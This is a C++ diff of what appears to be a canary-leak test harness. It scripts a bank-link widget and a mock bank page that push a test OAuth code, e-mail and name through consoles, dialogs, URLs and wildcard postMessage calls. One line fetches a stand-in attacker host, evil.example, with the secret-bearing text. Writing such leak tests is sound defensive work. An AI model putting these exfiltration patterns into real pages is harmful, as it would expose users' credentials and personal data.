@@ -170,10 +170,41 @@ void CanaryWorld::scriptWidget()
     const QByteArray more = '{' + echo(notBeforeLink) + '}';
     widget.setScript(QString::fromUtf8("const said = " + said + ".t; const more = " + more + R"(;
         console.log(said); console.warn(JSON.stringify(more)); console.error('token ' + new URLSearchParams(location.search).get('token'));
-        post('pageChange', { pageTitle: said, onLoadApi: 'https://bank.example/cb?code=)" + valueOf("oauth code") + R"(&x=' + encodeURIComponent(said) });
+        post('widgetPageLoaded', { pageTitle: said, onLoadApi: 'https://bank.example/cb?code=)" + valueOf("oauth code") + R"(&x=' + encodeURIComponent(said) });
         post('no such type ' + said, more); host.postMessage({ type: 'pageSuccess', payload: said }, '*');
         post('widgetError', 'INCORRECT_CREDENTIALS | Code: AC-117 | Message: ' + said);
-        setTimeout(() => { throw new Error(said); }, 0); fetch('/missing?why=' + encodeURIComponent(said));)"));
+        setTimeout(() => { throw new Error(said); }, 0); fetch('/missing?why=' + encodeURIComponent(said));
+        const button = (text, pressed) => { const made = document.createElement('button'); made.textContent = text; made.onclick = pressed; document.body.prepend(made); };
+        const bank = ')" + bankAddress().toEncoded() + R"(';
+        button('Bank login', () => window.open(bank, 'bank', 'width=400,height=700'));
+        button('Bank by hand', () => post('widgetPageLoaded', { pageTitle: 'launchExternalWindow', onLoadApi: bank }));
+        button('Bank that is away', () => window.open('http://127.0.0.1:1/cb?code=)" + valueOf("oauth code") + R"(', 'away'));
+        button('Ask', () => post('widgetPageLoaded', { pageTitle: 'Security question: ' + said, onLoadApi: '' }));
+        button('Answered', () => post('pageSuccess', Object.assign({}, success, { connectionId: ')" + connectionId.toLatin1() + R"(', message: said })));
+        addEventListener('message', told => post('told by the bank', told.data));)"));
+    scriptBank();
+}
+
+QUrl CanaryWorld::bankAddress() const
+{
+    return QUrl(widget.otherOrigin().toString() + u"/bank?state=s-1&code=%1&login_hint=%2#name=%3"_s
+        .arg(text("oauth code"), QString::fromLatin1(valueOf("e-mail").toPercentEncoding()), QString::fromLatin1(valueOf("name").toPercentEncoding())));
+}
+
+/// The bank's own page says who its customer is, as it may; it also says so on its console, in dialogs, in addresses, to its opener.
+void CanaryWorld::scriptBank()
+{
+    const QByteArray said = compact({{u"t"_s, QString::fromUtf8(sentence(notBeforeLink))}});
+    widget.setPage(u"/bank"_s, {.body = "<!doctype html><meta charset=utf-8><h1>Bank</h1><label>Answer <input name=answer></label><script>const said = " + said + R"(.t;
+        document.title = said; document.querySelector('h1').textContent = said; console.log('at ' + location.href); console.error(said);
+        alert(said); confirm(said); prompt(said, said);
+        opener && opener.postMessage(JSON.stringify({ href: location.href, said, code: new URLSearchParams(location.search).get('code') }), '*');
+        fetch('https://evil.example/?t=' + encodeURIComponent(said));
+        const link = (name, href, download) => { const made = document.createElement('a'); made.textContent = name; made.href = href;
+            if (download) made.download = download; document.body.append(made, ' '); };
+        link('Statement', 'data:text/plain,x', 'Statement of )" + valueOf("name") + R"(.txt');
+        link('Elsewhere', 'other://' + encodeURIComponent(said) + '?code=)" + valueOf("oauth code") + R"(');
+        link('Back', 'aerosync://bank-link?status=error&AC_CODE=AC-117&code=)" + valueOf("oauth code") + R"(&description=' + encodeURIComponent(said));</script>)"});
 }
 
 } // namespace canary
